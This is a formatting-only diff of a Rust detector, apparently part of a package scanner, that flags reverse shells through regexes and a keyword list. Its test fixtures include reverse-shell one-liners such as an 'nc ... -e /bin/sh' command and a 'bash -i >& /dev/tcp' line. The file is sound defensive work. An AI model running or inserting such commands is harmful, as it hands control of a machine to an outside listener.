@@ -18,13 +18,11 @@ pub static META: DetectorMeta = DetectorMeta {
     title: "Opens a reverse shell.",
     category: Category::Network,
     severity: Severity::Critical,
-    description:
-        "A shell wired to an outbound socket hands the machine to whoever listens at the other end.",
+    description: "A shell wired to an outbound socket hands the machine to whoever listens at the other end.",
 };
 
-static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect")
-});
+static CONNECT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect"));
 static WIRE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
 });
@@ -39,25 +37,11 @@ impl Detector for ReverseShell {
         &META
     }
     fn literals(&self) -> &'static [&'static str] {
-        &[
-            "dup2",
-            "pty.spawn",
-            "/dev/tcp",
-            "/dev/udp",
-            "nc -e",
-            "ncat",
-            "-e /bin/",
-            "mkfifo",
-            "stdin=",
-        ]
+        &["dup2", "pty.spawn", "/dev/tcp", "/dev/udp", "nc -e", "ncat", "-e /bin/", "mkfifo", "stdin="]
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
         let test = file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path);
-        let sev = Some(if test {
-            Severity::High
-        } else {
-            Severity::Critical
-        });
+        let sev = Some(if test { Severity::High } else { Severity::Critical });
         let src = Source::new(file);
         let mut n = 0;
         for m in ONE_LINER.find_iter(file.text) {
@@ -68,13 +52,7 @@ impl Detector for ReverseShell {
                 continue;
             }
             n += 1;
-            hits.push(
-                &META,
-                Hit {
-                    severity: sev,
-                    evidence: pysrc::evidence(file, m.start(), m.as_str().trim()),
-                },
-            );
+            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), m.as_str().trim()) });
         }
         if !src.python || !CONNECT.find_iter(file.text).any(|m| src.is_code(m.start())) {
             return;
@@ -88,13 +66,7 @@ impl Detector for ReverseShell {
             }
             n += 1;
             let ind = m.as_str().split('(').next().unwrap_or("").trim();
-            hits.push(
-                &META,
-                Hit {
-                    severity: sev,
-                    evidence: pysrc::evidence(file, m.start(), ind),
-                },
-            );
+            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
 }
@@ -114,13 +86,7 @@ mod tests {
             &ReverseShell,
             META.id,
             &[
-                (
-                    "classic python",
-                    "setup.py",
-                    InstallTime,
-                    CLASSIC,
-                    Some((4, "os.dup2", Critical)),
-                ),
+                ("classic python", "setup.py", InstallTime, CLASSIC, Some((4, "os.dup2", Critical))),
                 (
                     "subprocess wired",
                     "pkg/a.py",
@@ -142,13 +108,7 @@ mod tests {
                     "nc 10.0.0.1 4444 -e /bin/sh\n",
                     Some((1, "nc 10.0.0.1 4444 -e /bin/sh", Critical)),
                 ),
-                (
-                    "in tests lowered",
-                    "pkg/tests/t.py",
-                    Runtime,
-                    CLASSIC,
-                    Some((4, "os.dup2", High)),
-                ),
+                ("in tests lowered", "pkg/tests/t.py", Runtime, CLASSIC, Some((4, "os.dup2", High))),
                 (
                     "pty without socket (terminal tool)",
                     "pkg/term.py",
@@ -156,20 +116,8 @@ mod tests {
                     "import pty\npty.spawn('/bin/bash')\n",
                     None,
                 ),
-                (
-                    "dup2 for logging",
-                    "pkg/d.py",
-                    Runtime,
-                    "os.dup2(devnull.fileno(), 1)\n",
-                    None,
-                ),
-                (
-                    "one-liner in comment",
-                    "pkg/a.py",
-                    Runtime,
-                    "# bash -i >& /dev/tcp/h/1\nx = 1\n",
-                    None,
-                ),
+                ("dup2 for logging", "pkg/d.py", Runtime, "os.dup2(devnull.fileno(), 1)\n", None),
+                ("one-liner in comment", "pkg/a.py", Runtime, "# bash -i >& /dev/tcp/h/1\nx = 1\n", None),
                 (
                     "dup2 onto other fds with a socket",
                     "pkg/sel.py",
